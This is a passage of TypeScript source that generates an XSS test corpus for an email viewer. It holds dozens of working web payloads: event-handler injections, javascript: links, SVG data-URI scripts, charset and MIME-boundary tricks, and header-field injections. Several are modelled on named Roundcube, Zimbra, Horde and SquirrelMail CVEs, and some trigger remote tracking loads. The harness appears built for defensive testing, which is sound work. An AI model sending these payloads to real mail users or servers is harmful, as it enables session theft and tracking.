    ['video-src', (id) => `<video src="${remoteHost(id)}/v.mp4" autoplay></video>`],
    ['audio-src', (id) => `<audio src="${remoteHost(id)}/a.mp3" autoplay></audio>`],
    ['track', (id) => `<video><track src="${remoteHost(id)}/t.vtt" default></video>`],
    ['body-background', (id) => `<body background="${remoteHost(id)}/b.png">x</body>`],
    ['bgsound', (id) => `<bgsound src="${remoteHost(id)}/s.wav">`],
    ['img-lowsrc-dynsrc', (id) => `<img lowsrc="${remoteHost(id)}/l.png" dynsrc="${remoteHost(id)}/d.avi">`],
    ['a-ping', (id) => `<a href="https://example.org/" ping="${remoteHost(id)}/ping">x</a>`],
    ['svg-image', (id) => `<svg><image href="${remoteHost(id)}/i.png" width="9" height="9"></image></svg>`],
    [
      'svg-xlink-image',
      (id) =>
        `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${remoteHost(id)}/i.png" width="9" height="9"></image></svg>`,
    ],
    [
      'img-srcset-multi',
      (id) => `<img srcset="${remoteHost(id)}/a.png 1x, ${remoteHost(id)}/b.png 2x" src="x:">`,
    ],
    ['embed-remote', (id) => `<embed src="${remoteHost(id)}/e.swf">`],
  ];
  for (const [name, html] of remoteLoads)
    out.push({ family: 'remote-load', what: `remote load: ${name}`, html });

  // ---- published webmail CVE patterns (shapes reproduced against this page; the CVE names where it comes from)
  const cves: Array<[string, string, (id: string) => string]> = [
    [
      'CVE-2024-42009',
      'Roundcube: desanitization of body attributes (bgcolor / title re-parsed)',
      (id) =>
        `<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart=${js(id).replace(/ /g, '')} foo=bar">x</body>`,
    ],
    [
      'CVE-2024-42009',
      'Roundcube: body bgcolor with markup',
      (id) => `<body bgcolor="x&quot; onload=&quot;${js(id)}">x</body>`,
    ],
    [
      'CVE-2012-3508',
      'Roundcube: javascript: in href of an HTML mail',
      (id) => `<a href="javascript:${js(id)}">click</a>`,
    ],
    [
      'CVE-2023-5631',
      'Roundcube: SVG use href to a data: SVG with script (Winter Vivern)',
      (id) =>
        `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id='x' xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='100' height='100'><image href='x:' onerror='${js(id).replace(/'/g, '"')}'/></svg>`)}#x"></use></svg>`,
    ],
    [
      'CVE-2020-12625',
      'Roundcube: CDATA in a text/html part',
      (id) => `<p><![CDATA[</p><script>${js(id)}</script>]]></p>`,
    ],
    [
      'CVE-2025-27915',
      'Zimbra: details open ontoggle (ICS description HTML)',
      (id) => `<details open ontoggle="${js(id)}"><summary>Meeting</summary>x</details>`,
    ],
    [
      'CVE-2022-24682',
      'Zimbra: calendar text with an onerror image',
      (id) => `<div class="calendar"><img src="x:" onerror="${js(id)}" alt="invite"></div>`,
    ],
    [
      'CVE-2025-66376',
      'Zimbra: @import in an HTML mail',
      (id) => `<style>@import url("${remoteHost(id)}/z.css");</style><p>x</p>`,
    ],
    [
      'CVE-2021-35208',
      'Zimbra: HTML inside attributes, unescaped later',
      (id) => `<img alt="&lt;img src=x: onerror=${js(id).replace(/ /g, '')}&gt;" src="x:">`,
    ],
    [
      'CVE-2004-0584',
      'Horde IMP: script in an e-mail message',
      (id) => `<p>Hello</p><script language="javascript">${js(id)}</script>`,
    ],
    [
      'CVE-2004-1443',
      'Horde IMP inline MIME viewer: style expression',
      (id) => `<div style="xss:expr/**/ession(${js(id)})">x</div>`,
    ],
    [
      'CVE-2008-2379',
      'SquirrelMail: crafted hyperlink in the HTML part',
      (id) =>
        `<a href="http://example.org/&quot; onmouseover=&quot;${js(id)}">hover</a><a href=" javascript:${js(id)}">y</a>`,
    ],
    [
      'CVE-2002-2086',
      'SquirrelMail magicHTML: tag tricks',
      (id) => `<img src="javascript:${js(id)}"><img """><script>${js(id)}</script>">`,
    ],
    [
      'CVE-2006-6142',
      'SquirrelMail magicHTML shortcoming',
      (id) =>
        `<div style="background:url(javascript:${js(id)})">x</div><p style="x:\\65xpression(${js(id)})">y</p>`,
    ],
  ];
  for (const [cve, what, html] of cves) out.push({ family: 'cve', what, cve, html });

  // ---- plain text that carries markup (rendered as text; only http(s)/mailto become links)
  const plain: Array<[string, (id: string) => string, string?]> = [
    ['markup', (id) => `Hello <script>${js(id)}</script> <img src=x: onerror="${js(id)}">`],
    ['javascript-link', (id) => `Click javascript:${js(id)} or JavaScript:${js(id)}`],
    [
      'quote-breakout-link',
      (id) =>
        `See http://example.org/"onmouseover="${js(id)}" and http://example.org/'><img src=x: onerror=${js(id).replace(/ /g, '')}>`,
      'CVE-2023-43770',
    ],
    [
      'link-reference',
      (id) => `Text [1]\n\n[1]: javascript:${js(id)}\n[2]: http://example.org/<script>${js(id)}</script>`,
      'CVE-2020-35730',
    ],
    ['data-link', (id) => `Open data:text/html;base64,${b64(`<script>${js(id)}</script>`)}`],
    [
      'html-document',
      (id) => `<html><body onload="${js(id)}"><iframe src="${remoteHost(id)}"></iframe></body></html>`,
    ],
    ['remote-link-text', (id) => `Tracking ${remoteHost(id)}/pixel.gif <img src="${remoteHost(id)}/p.gif">`],
  ];
  for (const [name, text, cve] of plain)
    out.push({ family: 'plain-text', what: `text/plain: ${name}`, text, ...(cve ? { cve } : {}) });

  // ---- malformed MIME, charsets, headers
  const mime: Array<[string, (id: string, subject: string) => string, string?]> = [
    [
      'no-content-type-html',
      (id, s) =>
        `${headers(id, [], s)}\n\n<html><body><script>${js(id)}</script><img src="x:" onerror="${js(id)}"></body></html>\n`,
    ],
    [
      'text-plain-but-html',
      (id, s) =>
        `${headers(id, ['Content-Type: text/plain'], s)}\n\n<script>${js(id)}</script><img src="${remoteHost(id)}/p.gif">\n`,
    ],
    [
      'upper-case-type',
      (id, s) =>
        `${headers(id, ['Content-Type: TEXT/HTML; CHARSET=UTF-8'], s)}\n\n<img src="x:" onerror="${js(id)}">\n`,
    ],
    [
      'alternative-html-in-text-part',
      (id, s) =>
        `${headers(id, ['Content-Type: multipart/alternative; boundary="b1"'], s)}\n\n--b1\nContent-Type: text/plain\n\n<script>${js(id)}</script>\n--b1--\n`,
    ],
    [
      'unclosed-boundary',
      (id, s) =>
        `${headers(id, ['Content-Type: multipart/mixed; boundary="b2"'], s)}\n\n--b2\nContent-Type: text/html\n\n<img src="x:" onerror="${js(id)}">\n--b2\nContent-Type: text/html\n\n<svg onload="${js(id)}">\n`,
    ],
    [
      'missing-boundary-param',
      (id, s) =>
        `${headers(id, ['Content-Type: multipart/mixed'], s)}\n\n--x\nContent-Type: text/html\n\n<img src="x:" onerror="${js(id)}">\n--x--\n`,
    ],
    [
      'boundary-in-body',
      (id, s) =>
        `${headers(id, ['Content-Type: multipart/mixed; boundary="<img src=x: onerror=a>"'], s)}\n\n--<img src=x: onerror=a>\nContent-Type: text/html\n\n<img src="x:" onerror="${js(id)}">\n--<img src=x: onerror=a>--\n`,
    ],
    [
      'utf7-charset',
      (id, s) =>
        `${headers(id, ['Content-Type: text/html; charset=utf-7'], s)}\n\n+ADw-script+AD4-${js(id)}+ADw-/script+AD4-\n`,
    ],
    [
      'utf16-claimed-ascii',
      (id, s) =>
        `${headers(id, ['Content-Type: text/html; charset=utf-16'], s)}\n\n<img src="x:" onerror="${js(id)}">\n`,
    ],
    [
      'unknown-charset',
      (id, s) =>
        `${headers(id, ['Content-Type: text/html; charset=x-evil-<script>'], s)}\n\n<img src="x:" onerror="${js(id)}">\n`,
    ],
    [
      'iso-2022-jp-escape',
      (id, s) =>
        `${headers(id, ['Content-Type: text/html; charset=iso-2022-jp'], s)}\n\n<a title="\u001b(J"><img src=x: onerror=${js(id).replace(/ /g, '')}>">x</a>\n`,
    ],
    [
      'base64-html',
      (id, s) =>
        `${headers(id, ['Content-Type: text/html', 'Content-Transfer-Encoding: base64'], s)}\n\n${b64(`<script>${js(id)}</script><img src="x:" onerror="${js(id)}">`)}\n`,
    ],
    [
      'broken-qp',
      (id, s) =>
        `${headers(id, ['Content-Type: text/html', 'Content-Transfer-Encoding: quoted-printable'], s)}\n\n=3Cscript=3E${js(id)}=3C/script=3E=3Cimg src=3Dx: onerror=3D"${js(id)}"=3E=\n=3\n`,
    ],
    [
      'nested-rfc822',
      (id, s) =>
        `${headers(id, ['Content-Type: message/rfc822'], s)}\n\nFrom: x@y\nSubject: inner\nContent-Type: text/html\n\n<img src="x:" onerror="${js(id)}">\n`,
    ],
    [
      'html-attachment',
      (id, s) =>
        `${headers(id, ['Content-Type: multipart/mixed; boundary="b3"'], s)}\n\n--b3\nContent-Type: text/plain\n\nsee attached\n--b3\nContent-Type: text/html; name="<img src=x: onerror=a>.html"\nContent-Disposition: attachment; filename="<img src=x: onerror=${js(id).replace(/ /g, '')}>.html"\n\n<script>${js(id)}</script>\n--b3--\n`,
      'CVE-2012-5565',
    ],
    [
      'svg-inline-cid',
      (id, s) =>
        `${headers(id, ['Content-Type: multipart/related; boundary="b4"'], s)}\n\n--b4\nContent-Type: text/html\n\n<img src="cid:evil@x"><p>svg by cid</p>\n--b4\nContent-Type: image/svg+xml\nContent-ID: <evil@x>\nContent-Disposition: inline\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="${js(id)}"><script>${js(id)}</script></svg>\n--b4--\n`,
      'CVE-2012-6640',
    ],
    [
      'html-inline-cid',
      (id, s) =>
        `${headers(id, ['Content-Type: multipart/related; boundary="b5"'], s)}\n\n--b5\nContent-Type: text/html\n\n<img src="cid:page@x"><iframe src="cid:page@x"></iframe>\n--b5\nContent-Type: text/html\nContent-ID: <page@x>\n\n<script>${js(id)}</script>\n--b5--\n`,
    ],
    [
      'cid-quote-breakout',
      (id, s) =>
        `${headers(id, ['Content-Type: multipart/related; boundary="b6"'], s)}\n\n--b6\nContent-Type: text/html\n\n<img src='cid:a"onerror="${js(id)}'>\n--b6\nContent-Type: image/png\nContent-ID: <a"onerror="${js(id)}>\nContent-Transfer-Encoding: base64\n\niVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\n--b6--\n`,
    ],
    [
      'content-location',
      (id, s) =>
        `${headers(id, ['Content-Type: multipart/mixed; boundary="b7"'], s)}\n\n--b7\nContent-Type: text/plain\n\nx\n--b7\nContent-Type: application/octet-stream\nContent-Location: javascript:${js(id)}//"><img src=x: onerror=a>\nContent-Disposition: attachment; filename="a.bin"\n\nAAAA\n--b7--\n`,
      'CVE-2018-6882',
    ],
    [
      'content-type-header-markup',
      (id, s) =>
        `${headers(id, [`Content-Type: text/plain; name="<script>${js(id)}</script>"; charset="<img src=x: onerror=a>"`], s)}\n\nbody\n`,
      'CVE-2004-0520',
    ],
    [
      'no-header-separator',
      (id, s) => `${headers(id, ['Content-Type: text/html'], s)}\n<img src="x:" onerror="${js(id)}">\n`,
    ],
    [
      'nul-bytes',
      (id, s) =>
        `${headers(id, ['Content-Type: text/html'], s)}\n\n<scr\u0000ipt>${js(id)}</scr\u0000ipt><img src="x:" on\u0000error="${js(id)}">\n`,
    ],
  ];
  for (const [name, message, cve] of mime)
    out.push({ family: 'mime', what: `MIME: ${name}`, message, ...(cve ? { cve } : {}) });

  const hdr: Array<[string, (id: string, subject: string) => string, string?]> = [
    [
      'subject-html',
      (id) =>
        `${headers(id, ['Content-Type: text/plain'], `[xss:${id}] <img src=x: onerror="${js(id)}"><script>${js(id)}</script>`)}\n\nbody\n`,
      'CVE-2005-1319',
    ],
    [
      'subject-encoded-word',
      (id) =>
        `${headers(id, ['Content-Type: text/plain'], `=?utf-8?B?${b64(`[xss:${id}] <svg onload="${js(id)}">`)}?=`)}\n\nbody\n`,
      'CVE-2004-1036',
    ],
    [
      'subject-title-breakout',
      (id) =>
        `${headers(id, ['Content-Type: text/plain'], `[xss:${id}] </title><script>${js(id)}</script>`)}\n\nbody\n`,
    ],
    [
      'from-name-html',
      (id, s) =>
        headers(id, ['Content-Type: text/plain'], s).replace(
          'From: Mallory <mallory@xss.invalid>',
          `From: "<img src=x: onerror=${js(id).replace(/ /g, '')}>" <mallory@xss.invalid>`,
        ) + `\n\nbody\n`,
    ],
    [
      'from-address-html',
      (id, s) =>
        headers(id, ['Content-Type: text/plain'], s).replace(
          'From: Mallory <mallory@xss.invalid>',
          `From: <"<script>${js(id)}</script>"@xss.invalid>`,
        ) + `\n\nbody\n`,
      'CVE-2024-45510',
    ],
    [
      'from-encoded-word',
      (id, s) =>
        headers(id, ['Content-Type: text/plain'], s).replace(
          'From: Mallory <mallory@xss.invalid>',
          `From: =?utf-8?Q?=3Csvg_onload=3D${encodeURIComponent(js(id)).replace(/%/g, '=')}=3E?= <m@xss.invalid>`,
        ) + `\n\nbody\n`,
    ],
    [
      'to-cc-replyto-html',
      (id, s) =>
        `${headers(id, ['Content-Type: text/plain', `Cc: "<script>${js(id)}</script>" <c@xss.invalid>`, `Reply-To: javascript:${js(id)}`], s).replace('To: reader@example.org', `To: "<img src=x: onerror=${js(id).replace(/ /g, '')}>" <reader@example.org>`)}\n\nbody\n`,
    ],
    [
      'message-id-date-html',
      (id, s) =>
        `${headers(id, ['Content-Type: text/plain'], s)
          .replace(`Message-ID: <${id}@xss.invalid>`, `Message-ID: <"><script>${js(id)}</script>@x>`)
          .replace(
            'Date: Tue, 01 Dec 2026 10:00:00 +0000',
            `Date: <img src=x: onerror=${js(id).replace(/ /g, '')}>`,
          )}\n\nbody\n`,
    ],
    [
      'rtl-override-subject',
      (id) => `${headers(id, ['Content-Type: text/plain'], `[xss:${id}] \u202egnp.exe`)}\n\nbody\n`,
    ],
  ];
  for (const [name, message, cve] of hdr)
    out.push({ family: 'header', what: `header: ${name}`, message, ...(cve ? { cve } : {}) });

  return out;
}

/** The corpus: every vector built into a message. Ids are `x001`, `x002`, ... in a stable order. */
export function xssCorpus(options: CorpusOptions): XssVector[] {
  REMOTE = options.remote;
  return drafts(options.remote).map((d, i) => {
    const id = `x${String(i + 1).padStart(3, '0')}`;
    return { id, family: d.family, what: d.what, ...(d.cve ? { cve: d.cve } : {}), raw: build(id, d) };
  });
}
